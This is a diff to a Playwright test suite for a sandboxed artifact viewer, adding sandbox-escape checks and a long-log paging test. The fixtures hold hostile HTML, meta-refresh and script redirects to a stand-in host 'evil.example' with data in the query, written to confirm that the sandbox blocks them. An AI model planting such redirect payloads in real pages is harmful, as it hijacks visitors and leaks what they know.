@@ -39,6 +39,13 @@ fetch("https://evil.example/").then(() => say("away", "came"), () => say("away",
 """
 
 
+LEAVING = {
+    "meta.html": '<meta http-equiv="refresh" content="0;url=https://evil.example/?known">',
+    "script.html": '<script>location = "https://evil.example/?known"</script>',
+    "home.html": '<script>location = "/"</script>',
+}
+
+
 @pytest.fixture
 def open_file(story, watched):
     """``open_file(path)``: the page of a file of the best run; others by ``run``."""
@@ -179,6 +186,11 @@ def test_a_page_runs_in_a_sandbox_that_holds(site, watched):
     said.pop("form")  # goes nowhere: the page is still here
     assert set(said.values()) == {"refused"}, said
     assert page.url.endswith("/artifacts/report.html")
+    # it cannot take its frame elsewhere, and what it knows with it
+    for name, way in LEAVING.items():
+        site.put(name, way)
+        page.goto(f"{site.files}/{name}")
+        page.wait_for_timeout(300)
     # opened by itself it is no page of ours either
     page.goto(f"{site.shown}report.html")
     for name in ("fetch", "away", "cookie", "storage"):
@@ -211,6 +223,20 @@ def test_attacks(site, watched):
     page.wait_for_timeout(100)
     # a frame without allow-modals shows no dialog; no other page ran anything
     assert dialogs == []
+
+
+def test_a_long_text(site, watched):
+    page = watched.page
+    site.put("long.log", "".join(f"words {number}\n" for number in range(9000)))
+    page.goto(f"{site.files}/long.log#L5001")
+    page.get_by_text("words 5000", exact=True).wait_for()
+    page.wait_for_function("scrollY > 0 || document.querySelector('.lines').scrollTop > 0")
+    page.get_by_role("button", name="Load more").click()
+    page.get_by_text("words 7999", exact=True).wait_for()
+    page.locator("#L7001 a").click()
+    assert page.url.endswith("#L7001")
+    page.get_by_label("Wrap long lines").uncheck()
+    assert page.locator(".lines.wrapped").count() == 0
 
 
 def test_a_server_that_is_gone_in_the_middle(open_file, watched):
